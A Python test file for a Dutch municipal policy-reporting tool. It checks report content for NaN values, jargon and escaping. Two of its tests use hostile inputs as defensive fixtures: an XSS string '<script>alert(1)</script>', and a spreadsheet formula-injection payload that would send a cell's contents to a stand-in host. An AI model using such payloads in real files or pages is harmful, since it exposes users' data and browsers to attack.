"""What a reader sees: the committed notebook outputs and the rendered reports of a real batch
hold no NaN/None and no empty verdict, and every measurable part's verdict is on the scorecard.

nbval compares committed outputs with a fresh run, so it locks in whatever they show; these
tests read the content itself. The tests that read a real batch's HTML live in test_cli.py, beside
the other tests of that batch (one shared batch per test process)."""
from __future__ import annotations

import html
import json
import re
from pathlib import Path

import pytest

from ivbtools.verdict.rules import STATUS_NL, status_label

from conftest import ROOT

NOTEBOOKS = sorted((ROOT / "notebooks").glob("*.ipynb"))
BAD = re.compile(r"(?<![\w-])(NaN|nan|None|<NA>|NaT)(?![\w-])")


def visible_text(page: str) -> str:
    """The text of an HTML page or fragment as a reader sees it (no tags, styles, scripts, images)."""
    page = re.sub(r"<(style|script)\b.*?</\1>", " ", page, flags=re.S)
    page = re.sub(r"<img\b[^>]*>", " ", page)
    return html.unescape(re.sub(r"<[^>]+>", " ", page))


# Issue #29 rows 4 and 9: what a council member reads (everything outside the folded analysts' parts)
# has no statistical terms, p-values, commands or paths; they belong in "Voor analisten" and the docs.
COUNCIL_FORBIDDEN = ["poisson", "overdispersie", "robuust", "tweezijdig", "p =", "p <", "p-waarde", "quasi", "phi",
                     "garwood", "significan", "betrouwbaarheidsinterval", "glm", "irls", "conditionele methode",
                     "momentschatter", "kwantiel", "tau", "ivb fetch", "ivb run", "ivb national", "ivb monitor",
                     "data/", "docs/", "outputs/", "`"]


def council_part(page: str) -> str:
    """The visible text of a page without its folded parts (<details>: the analysts' part)."""
    return " ".join(visible_text(re.sub(r"<details\b.*?</details>", " ", page, flags=re.S)).split()).lower()


def forbidden_in(text: str) -> list[str]:
    return [t for t in COUNCIL_FORBIDDEN if re.search(r"(?<![a-z])" + re.escape(t), text.lower())]


def test_the_forbidden_terms_are_found_where_they_are():
    """The check can fail: a planted term in the council part is found, one in a fold is not."""
    page = "<p>95%-interval robuust, met overdispersie</p><details><summary>x</summary>tweezijdig p = 0,03</details>"
    assert forbidden_in(council_part(page)) == ["overdispersie", "robuust"]


def test_the_council_parts_name_no_command_or_statistical_term_without_downloads(ds, tmp_path):
    """Offline (no panel, no monthly figures) the council parts say what is missing in plain Dutch: the
    report's council cells for every target and year, and the monitor page (the browser test covers the
    pages made from downloads)."""
    from ivbtools.present import report
    from ivbtools.publish.monitor import publish_monitor
    from ivbtools.verdict.evaluate import evaluate

    for part in ds.policy.parts:
        for year in range(2020, 2024):
            ev = evaluate(ds, part.id, year, ds.policy.municipality)
            for md in (report.kort_md(ds, ev), report.target_md(ev), report.national_md(ev), report.peers_md(ds, ev),
                       report.caveats_missing_md(ev)):
                assert not forbidden_in(str(md)), (part.id, year, forbidden_in(str(md)), str(md)[:300])
    folder = publish_monitor(ds, 2026, tmp_path)["folder"]
    page = (folder / "index.html").read_text(encoding="utf-8")
    assert not forbidden_in(council_part(page)), forbidden_in(council_part(page))
    # what the analyst needs is still said, in the analysts' part
    ev = evaluate(ds, "sociaal-verward-gedrag", 2022, ds.policy.municipality)
    if "alle gemeenten nodig" in str(report.peers_md(ds, ev)):
        assert "`ivb fetch --all-municipalities`" in str(report.peers_detail_md(ds, ev))


def table_rows(page: str) -> dict[str, list[str]]:
    """Rows of the HTML tables in a page, by their header cell: {'verkeer-ongevallen': [cells…]}."""
    rows = {}
    for tr in re.findall(r"<tr>(.*?)</tr>", page, flags=re.S):
        head = re.search(r"<th[^>]*>(.*?)</th>", tr, flags=re.S)
        if head:
            rows[visible_text(head.group(1)).strip()] = [visible_text(c).strip()
                                                         for c in re.findall(r"<td[^>]*>(.*?)</td>", tr, flags=re.S)]
    return rows


def all_rows(page: str) -> list[list[str]]:
    """The data rows (td cells) of the HTML tables in a page."""
    rows = [[visible_text(c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", tr, flags=re.S)]
            for tr in re.findall(r"<tr[^>]*>(.*?)</tr>", page, flags=re.S)]
    return [r for r in rows if r]


def rows_by_first_cell(page: str) -> dict[str, list[str]]:
    """Rows of the HTML tables without a header column (the council tables), by their first cell."""
    return {r[0]: r for r in all_rows(page)}


def notebook_outputs(path: Path) -> tuple[str, list[dict]]:
    nb = json.loads(path.read_text(encoding="utf-8"))
    texts, outputs = [], []
    for cell in nb["cells"]:
        for out in cell.get("outputs", []):
            outputs.append(out)
            data = out.get("data", {})
            for key in ("text/plain", "text/markdown", "text/html"):
                if key in data:
                    texts.append(visible_text("".join(data[key])) if key == "text/html" else "".join(data[key]))
            if out.get("output_type") == "stream":
                texts.append("".join(out.get("text", "")))
    return "\n".join(texts), outputs


def labels_for(ds) -> set[str]:
    out = set(STATUS_NL.values())
    for p in ds.policy.parts:
        for status in STATUS_NL:
            out.add(status_label(status, p.rule))
    return out


@pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda p: p.name)
def test_committed_notebook_outputs_hold_no_nan_none_or_error(path):
    text, outputs = notebook_outputs(path)
    assert outputs, f"{path.name} has no stored outputs"
    assert not [o for o in outputs if o.get("output_type") == "error"], f"{path.name} stores an error"
    hits = sorted({m.group(0) for m in BAD.finditer(text)})
    assert not hits, f"{path.name} shows {hits}"


def test_committed_scorecard_shows_every_parts_verdict(ds):
    nb = json.loads((ROOT / "notebooks" / "scorecard.ipynb").read_text(encoding="utf-8"))
    tables = "".join("".join(o["data"]["text/html"]) for c in nb["cells"] for o in c.get("outputs", [])
                     if "text/html" in o.get("data", {}))
    rows = rows_by_first_cell(tables)
    labels = labels_for(ds)
    for part in ds.policy.parts:
        if part.measurable:   # the council table: doel, oordeel, zekerheid, waarde, vereist, k van n
            assert rows[part.title][1] in labels, part.id
        else:                 # the table of qualitative parts: thema, doel (the quote), the document's account
            assert [part.theme_name, part.quote] in [r[:2] for r in all_rows(tables)], part.id


@pytest.mark.parametrize("rows, says", [
    ("e33;Meldingen E33;2025;12,0;hoger dan verwacht\ne35;Meldingen E35;2025;30,0;binnen de verwachting\n",
     "Vraagt aandacht (1 van 2 oordelen buiten de verwachting"),
    ("e33;Meldingen E33;2025;12,0;binnen de verwachting\n", "Niets buiten de verwachting"),
    ("x;<script>alert(1)</script>;2025;9,0;hoger dan verwacht\n", "&lt;script&gt;alert(1)&lt;/script&gt;, 2025"),
    ("e33;Meldingen E33;2025;;geen gegevens\n", "Nog geen cijfers om aan een verwachting te toetsen"),
])
def test_the_overview_opens_with_both_policy_periods(tmp_path, rows, says):
    """Issue #29 row 2: the overview shows the 2024-2027 block (what calls for attention, or nothing
    outside the expectation, or no figures yet) above the 2020-2023 grid, linking to the monitor."""
    from ivbtools.publish.overview import publish_overview

    folder = tmp_path / "monitor" / "2026"
    folder.mkdir(parents=True)
    (folder / "index.html").write_text("<html></html>", encoding="utf-8")
    (folder / "signals.csv").write_text("\ufeffindicator;indicator_naam;periode;waarde;signaal\n" + rows, encoding="utf-8")
    page = publish_overview(tmp_path, "GM1969").read_text(encoding="utf-8")
    assert says in page and 'href="monitor/2026/index.html"' in page and "<script>" not in page
    assert page.index("2024–2027: de prioriteiten") < page.index("2020–2023: de doelen")
    if "Vraagt" in says:
        assert "<li>Meldingen E33, 2025: hoger dan verwacht</li>" in page and "E35" not in page.split("Vraagt")[1][:300]


def test_text_that_looks_like_a_formula_stays_text_in_csv_and_xlsx():
    """A title or quote from an outside file that starts with '=' (or '+', '-', '@') would be run by
    Excel as a formula (CSV/formula injection): the CSV puts a quote in front, the workbook stores text."""
    import io

    import openpyxl
    import pandas as pd

    from ivbtools.present.csvout import nl_csv
    from ivbtools.present.xlsxout import workbook_bytes

    evil = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
    t = pd.DataFrame({"uitspraak": [evil, "+31 6", "gewoon"], "aantal": [3, 2.5, float("nan")],
                      "ok": [True, False, True]})
    lines = nl_csv(t).lstrip("\ufeff").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(") and lines[2].startswith("'+31 6;2,5;nee")
    assert lines[3] == "gewoon;;ja"
    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes({"uitspraken: a/b?": t})))
    ws = wb["uitspraken  a b "]   # Excel forbids : / ? in a sheet name
    assert ws["A2"].value == evil and ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert ws["A3"].value == "+31 6" and ws["A3"].data_type == "s"
    assert ws["B2"].value == 3 and ws["B3"].value == 2.5 and ws["B4"].value is None
    assert ws["C2"].value == "ja" and ws["C3"].value == "nee" and ws["A1"].font.bold


def test_the_grid_shows_peers_only_as_k_of_n_and_hover_texts_have_no_empty_parts(tmp_path):
    """A peer cell that says why there is no comparison ('… de cijfers van alle gemeenten …') is not read
    as 'k van n'; a verdict without a certainty gives a hover text without '; ;' (issue #29 row 9)."""
    from ivbtools.publish.overview import publish_overview

    year = tmp_path / "2023"
    year.mkdir()
    parts = [{"doel_id": "a", "doel": "Doel A", "status": "niet_gehaald", "oordeel": "niet gehaald", "zekerheid": None,
              "toelichting": "uitleg A", "doeljaar": 2023,
              "vergelijkbare_gemeenten": "geen vergelijking: de cijfers van alle gemeenten ontbreken"},
             {"doel_id": "b", "doel": "Doel B", "status": "gehaald", "oordeel": "gehaald", "zekerheid": "duidelijk",
              "toelichting": "uitleg B", "doeljaar": 2023, "vergelijkbare_gemeenten": "12 van 40 (3 duidelijk)"}]
    (year / "scorecard.json").write_text(json.dumps({"meta": {"municipality_name": "Testdorp"}, "parts": parts}),
                                         encoding="utf-8")
    page = publish_overview(tmp_path, "GM1969").read_text(encoding="utf-8")
    row_a = page[page.index("Doel A"):page.index("Doel B")]
    assert "vergelijkbare gemeenten" not in row_a and 'title="niet gehaald; uitleg A"' in row_a
    assert "12 van 40 vergelijkbare gemeenten haalden het" in page and "; ;" not in page
